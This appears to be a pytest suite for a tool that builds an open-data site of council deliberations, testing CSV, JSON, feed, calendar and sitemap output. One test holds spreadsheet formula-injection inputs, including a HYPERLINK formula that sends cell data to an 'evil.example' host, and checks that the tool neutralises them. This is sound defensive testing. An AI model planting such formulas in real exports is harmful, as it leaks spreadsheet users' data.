"""Open data, feeds, calendar and sitemap, read by the tools reusers use."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
from pathlib import Path

import pytest

from registre.config import load_config
from registre.exports import data_digest, open_data
from registre.load import load_archive
from registre.routes import route

from .conftest import ROOT, act_text, good_act, run_cli

SCHEMA = ROOT / "tests" / "data" / "scdl" / "schema.json"
LEVEL_ONE = {
    "commande publique", "urbanisme", "domaine et patrimoine", "fonction publique", "institutions et vie politique",
    "libertés publiques et pouvoirs de police", "finances locales", "domaines de compétences par thèmes", "autres domaines de compétences",
}


@pytest.fixture(scope="module")
def example(tmp_path_factory: pytest.TempPathFactory) -> Path:
    output = tmp_path_factory.mktemp("example") / "output"
    result = run_cli("build", "--config", ROOT / "site_config.yaml", "--output", output, "--no-search")
    assert result.status == 0, result.err
    return output


def luhn(digits: str) -> bool:
    total = 0
    for index, char in enumerate(reversed(digits)):
        value = int(char) * (2 if index % 2 else 1)
        total += value - 9 if value > 9 else value
    return total % 10 == 0


def test_the_scdl_csv_is_valid_for_frictionless(example: Path) -> None:
    from frictionless import Resource, Schema

    schema = Schema.from_descriptor(json.loads(SCHEMA.read_text(encoding="utf-8")))
    report = Resource(path="deliberations.csv", basepath=str(example / "donnees"), schema=schema).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    assert report.tasks[0].stats["rows"] == 78


def test_the_scdl_csv_passes_the_schema_custom_checks(example: Path) -> None:
    rows = list(csv.DictReader(io.StringIO((example / "donnees/deliberations.csv").read_text(encoding="utf-8"))))
    columns = json.loads(SCHEMA.read_text(encoding="utf-8"))["fields"]
    assert list(rows[0]) == [c["name"] for c in columns]
    votes = ("VOTE_EFFECTIF", "VOTE_REEL", "VOTE_POUR", "VOTE_CONTRE", "VOTE_ABSTENTION")
    filled = 0
    for row in rows:
        assert luhn(row["COLL_SIRET"])
        assert row["DELIB_MATIERE_NOM"].split("/")[0] in LEVEL_ONE
        assert row["PREF_DATE"] >= row["DELIB_DATE"]
        assert row["DELIB_URL"].startswith("https://deliberations.ampmetropole.example/deliberations/")
        values = [row[c] for c in votes]
        assert all(values) or not any(values), row["DELIB_ID"]
        if all(values):
            filled += 1
            effectif, reel, pour, contre, abstention = map(int, values)
            assert effectif >= reel >= max(pour, contre, abstention) and reel == pour + contre + abstention
    assert 0 < filled < len(rows)


def test_the_json_has_every_act(example: Path) -> None:
    data = json.loads((example / "donnees/deliberations.json").read_text(encoding="utf-8"))
    seed = next(a for a in data["acts"] if a["number"] == "ECO 003-2438/17/BM")
    assert len(data["acts"]) == 78 and data["collectivity"]["siret"] == "20005480700017"
    assert seed["represented"] == [{"member": "Maryse JOISSAINS MASINI", "proxy": "Alexandre GALLESE"}]
    assert seed["cites"] == ["ECO 012-1558/17/BM", "HN009-011/16/CM"] and seed["matter"] == "7.4"
    page = (example / "donnees/index.html").read_text(encoding="utf-8")
    assert "SCDL" in page and "Licence Ouverte" in page and 'href="../donnees/deliberations.csv"' in page


def test_feeds_parse_without_errors_and_pages_link_to_them(example: Path) -> None:
    import feedparser

    main = feedparser.parse((example / "feed.xml").read_bytes())
    assert not main.bozo, main.bozo_exception
    assert len(main.entries) == 50 and main.entries[0].link.startswith("https://deliberations.ampmetropole.example/deliberations/")
    for feed in ("themes/eco/feed.xml", "instances/cm/feed.xml", "rapporteurs/martine-vassal/feed.xml"):
        parsed = feedparser.parse((example / feed).read_bytes())
        assert not parsed.bozo and parsed.entries, feed
    theme = (example / "themes/eco/index.html").read_text(encoding="utf-8")
    assert 'rel="alternate" type="application/atom+xml"' in theme and 'href="../../themes/eco/feed.xml"' in theme
    eco = feedparser.parse((example / "themes/eco/feed.xml").read_bytes())
    assert all(e.tags[0].term == "ECO" for e in eco.entries)


def test_the_calendar_sitemap_and_robots(example: Path) -> None:
    from icalendar import Calendar

    calendar = Calendar.from_ical((example / "seances.ics").read_bytes())
    events = calendar.walk("VEVENT")
    assert len(events) == 8 and dt.date(2017, 10, 19) in [e.decoded("DTSTART") for e in events]
    sitemap = (example / "sitemap.xml").read_text(encoding="utf-8")
    assert "<loc>https://deliberations.ampmetropole.example/deliberations/eco-003-2438-17-bm/</loc>" in sitemap
    assert sitemap.count("<loc>") == sum(1 for p in example.rglob("index.html"))
    assert "Sitemap: https://deliberations.ampmetropole.example/sitemap.xml" in (example / "robots.txt").read_text()


def test_charts_and_legal_publicity_on_pages(example: Path) -> None:
    split = next(p for p in (example / "deliberations").glob("*/index.html") if "voix contre" in p.read_text(encoding="utf-8"))
    html = split.read_text(encoding="utf-8")
    assert '<svg class="chart" role="img" aria-label="Vote\u00a0: ' in html and 'class="chart-against"' in html
    assert "Mis en ligne le" in html
    assert '<svg class="chart" role="img" aria-label="Délibérations par année\u00a0: 2016\u00a0: ' in (example / "themes/eco/index.html").read_text(encoding="utf-8")
    assert "Liste des délibérations" in (example / "seances/2017-10-19-bm/index.html").read_text(encoding="utf-8")


def test_check_reports_an_act_without_matter_at_its_line(make_site) -> None:  # type: ignore[no-untyped-def]
    root = make_site({"a.md": act_text(good_act())}, config={"themes": {"ECO": {"name": "Économie"}}})
    result = run_cli("check", "--config", root / "site_config.yaml")
    assert result.status == 1
    assert result.out == 'site/content/a.md:6: matter: no @ctes matter for the open data: give "matter", or one to theme ECO in site_config.yaml\n'
    root = make_site({"a.md": act_text(good_act(matter=7.10))}, name="float")
    assert run_cli("check", "--config", root / "site_config.yaml").out == 'float/content/a.md:16: matter: write the matter in quotes ("7.1"): YAML reads 7.10 unquoted as the number 7.1\n'


def test_a_theme_whose_acts_all_miss_a_matter_is_reported_once_at_its_line(make_site) -> None:  # type: ignore[no-untyped-def]
    acts = {f"{n}.md": act_text(good_act(number=f"ECO 00{n}-243{n}/17/BM")) for n in (3, 4, 5)}
    root = make_site(acts, config={"themes": {"HN": {"name": "Institutions", "matter": "5.2"}, "ECO": {"name": "Économie"}}})
    result = run_cli("check", "--config", root / "site_config.yaml")
    assert result.status == 1
    line = (root / "site_config.yaml").read_text(encoding="utf-8").splitlines().index("  ECO:") + 1
    assert result.out == f'site/site_config.yaml:{line}: themes.ECO: no @ctes matter for the open data in 3 acts (site/content/3.md:6 and 2 more): give the theme one (matter: "9.1"), or "matter" to each act\n'


def test_members_file_gives_names_aliases_and_roles(make_site) -> None:  # type: ignore[no-untyped-def]
    members = "- name: Alexandre GALLÈSE\n  aliases: [A. GALLESE]\n  roles: [Conseiller métropolitain]\n"
    root = make_site({"a.md": act_text(good_act(present=["Jean-Claude GAUDIN", "A. GALLESE"], represented=[{"member": "Maryse JOISSAINS MASINI", "proxy": "A. GALLESE"}])), "members.yaml": members})
    result = run_cli("build", "--config", root / "site_config.yaml", "--no-search")
    assert result.status == 0 and "warning" not in result.err, result.err
    page = (root / "output/elus/alexandre-gallese/index.html").read_text(encoding="utf-8")
    assert "<h1>Alexandre GALLÈSE</h1>" in page and "Conseiller métropolitain" in page and re.search(r"pouvoir de <a [^>]+>Maryse JOISSAINS MASINI</a>", page)


def test_an_unresolved_citation_is_plain_text_on_the_page(make_site) -> None:  # type: ignore[no-untyped-def]
    root = make_site({"a.md": act_text(good_act(), "Vu la délibération URB 015-0877/15/CM.\n")})
    assert run_cli("build", "--config", root / "site_config.yaml", "--no-search").status == 0
    html = (root / "output/deliberations/eco-003-2438-17-bm/index.html").read_text(encoding="utf-8")
    assert "<h3>Actes cités absents de l&#39;archive</h3>\n<ul><li>URB 015-0877/15/CM</li></ul>" in html
    assert 'class="citation">URB' not in html


def test_csv_cells_a_spreadsheet_would_run_are_made_text(make_site) -> None:  # type: ignore[no-untyped-def]
    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Cliquez")', "+1+1", "-2+3", "@SUM(A1:A2)"]
    files = {f"{i}.md": act_text(good_act(number=f"ECO 00{i}-24{i}0/17/BM", title=title)) for i, title in enumerate(formulas, 1)}
    root = make_site(files)
    assert run_cli("build", "--config", root / "site_config.yaml", "--no-search").status == 0
    rows = list(csv.DictReader(io.StringIO((root / "output" / "donnees" / "deliberations.csv").read_text(encoding="utf-8-sig"))))
    assert sorted(row["DELIB_OBJET"] for row in rows) == sorted("'" + title for title in formulas)


def test_the_spreadsheet_csv_holds_the_same_rows_and_opens_with_its_accents(example: Path) -> None:
    # A byte-order mark (Excel reads UTF-8 only with it) and semicolons (a French spreadsheet's separator).
    data = (example / "donnees/deliberations-tableur.csv").read_bytes()
    assert data.startswith("\ufeff".encode("utf-8"))
    spreadsheet = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    scdl = list(csv.reader(io.StringIO((example / "donnees/deliberations.csv").read_text(encoding="utf-8"))))
    assert spreadsheet == scdl and len(spreadsheet) == 79
    assert not (example / "donnees/deliberations.csv").read_bytes().startswith(b"\xef\xbb\xbf")  # the SCDL file stays as the schema wants


def test_the_open_data_kept_between_builds_follows_a_spelling_or_an_alias_its_acts_do_not_change(make_site) -> None:  # type: ignore[no-untyped-def]
    """Each act's record is kept for the next build with what it was made from: a members file that
    respells a member, or makes a spelling an alias, changes records whose acts did not change."""
    acts = {f"{n}.md": act_text(good_act(number=f"ECO 00{n}-243{n}/17/BM", present=["Jean-Claude GAUDIN", "Alexandre GALLESE", "A. GALLESE"])) for n in (1, 2)}
    root = make_site(acts)

    def built_json(members: str) -> list[list[str]]:
        (root / "content/members.yaml").write_text(members, encoding="utf-8")
        for output in ("output", "fresh"):  # output/ with the last build's cache, fresh/ built from nothing
            result = run_cli("build", "--config", root / "site_config.yaml", "--no-search", "--output", root / output)
            assert result.status == 0, result.err
        kept, fresh = ((root / output / "donnees/deliberations.json").read_bytes() for output in ("output", "fresh"))
        assert kept == fresh
        shutil.rmtree(root / "fresh")
        shutil.rmtree(root / ".registre-cache-fresh")
        return [act["present"] for act in json.loads(kept)["acts"]]

    assert built_json("") == [["Jean-Claude GAUDIN", "Alexandre GALLESE", "A. GALLESE"]] * 2
    assert built_json("- {name: Alexandre GALLÈSE}\n") == [["Jean-Claude GAUDIN", "Alexandre GALLÈSE", "A. GALLESE"]] * 2
    assert built_json("- {name: Alexandre GALLÈSE, aliases: [A. GALLESE]}\n") == [["Jean-Claude GAUDIN", "Alexandre GALLÈSE", "Alexandre GALLÈSE"]] * 2


def test_an_act_s_open_data_lines_are_taken_from_the_files_in_output_only_while_they_are_those_made(make_site) -> None:  # type: ignore[no-untyped-def]
    """The records kept for the next build say where each act's lines lie in the files made: they are
    taken from the files in output/ while those have the digests made (or the build found output/ as the
    last one left it), else every line is made again."""
    root = make_site({f"{n}.md": act_text(good_act(number=f"ECO 00{n}-243{n}/17/BM", title=f"Subvention {n}")) for n in (1, 2, 3)})
    config = load_config(root / "site_config.yaml")
    archive = load_archive(config)
    files, records = open_data(archive)
    for path, data in files.items():
        (config.output_dir / path).parent.mkdir(parents=True, exist_ok=True)
        (config.output_dir / path).write_bytes(data)
    assert open_data(archive, records)[0] == files
    # Taken from the files: a line changed there, its file's digest given as made, is what comes out.
    json_file = config.output_dir / route("json")
    json_file.write_bytes(files[route("json")].replace(b"Subvention 2", b"Subvention X"))
    as_written = records._replace(files={**records.files, route("json"): data_digest(json_file.read_bytes())})
    assert b"Subvention X" in open_data(archive, as_written)[0][route("json")]
    # The build found output/ as the last one left it (`checked`): no digest is taken, the files are used.
    assert b"Subvention X" in open_data(archive, records, checked=True)[0][route("json")]
    # The files in output/ are not those made: every line is made again.
    assert open_data(archive, records)[0] == files
    json_file.unlink()
    assert open_data(archive, records)[0] == files
    assert open_data(archive, records, checked=True)[0] == files


def test_the_open_data_made_from_the_last_build_s_files_equals_the_files_made_afresh(make_site) -> None:  # type: ignore[no-untyped-def]
    """The acts kept are taken from output/'s files by runs of acts that follow each other there: with
    acts removed, changed and added between them, in the middle and at both ends, the files are those
    made from nothing, and so are the records kept for the next build."""
    def act(n: int, title: str = "Subvention") -> str:
        return act_text(good_act(number=f"ECO {n:03d}-24{n:02d}/17/BM", title=f"{title} {n}", date=f"2017-03-{n:02d}"))

    root = make_site({f"{n}.md": act(n) for n in range(2, 10)})
    config = load_config(root / "site_config.yaml")
    files, records = open_data(load_archive(config))
    for path, data in files.items():
        (config.output_dir / path).parent.mkdir(parents=True, exist_ok=True)
        (config.output_dir / path).write_bytes(data)
    for gone in (2, 5, 9):
        (root / "content" / f"{gone}.md").unlink()
    for changed in (3, 7):
        (root / "content" / f"{changed}.md").write_text(act(changed, "Convention"), encoding="utf-8")
    for added in (1, 6, 10):
        (root / "content" / f"{added}.md").write_text(act(added), encoding="utf-8")
    archive = load_archive(config)
    kept, kept_records = open_data(archive, records, checked=True)
    fresh, fresh_records = open_data(archive)
    assert kept == fresh
    assert [act["title"] for act in json.loads(kept[route("json")])["acts"]] == [
        "Subvention 1", "Convention 3", "Subvention 4", "Subvention 6", "Convention 7", "Subvention 8", "Subvention 10"
    ]
    assert kept_records == fresh_records


def test_the_data_files_are_made_once_while_forked_workers_render(site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    """The open data page gives the data files' sizes: they are made once, in the build's own process
    while the workers render the other pages (a worker made them for that page, then the build again)."""
    import os

    from registre import build as build_module, render
    from registre.build import Builder
    from registre.pages.view import file_size

    made = tmp_path / "made"
    real = render.exports

    def noted(*args, **kwargs):  # type: ignore[no-untyped-def]
        with made.open("a", encoding="utf-8") as note:  # a forked worker's call is noted too
            note.write(f"{os.getpid()}\n")
        return real(*args, **kwargs)

    monkeypatch.setattr(render, "exports", noted)
    monkeypatch.setattr(build_module, "FORK_FROM", 1)  # the fixture's 77 pages rendered by forked workers
    root = site("minimal")
    Builder(load_config(root / "site_config.yaml"), search=False, jobs=2).build()
    assert made.read_text(encoding="utf-8").splitlines() == [str(os.getpid())]
    page = (root / "output" / route("data") / "index.html").read_text(encoding="utf-8")
    assert file_size((root / "output" / route("csv")).stat().st_size) in page
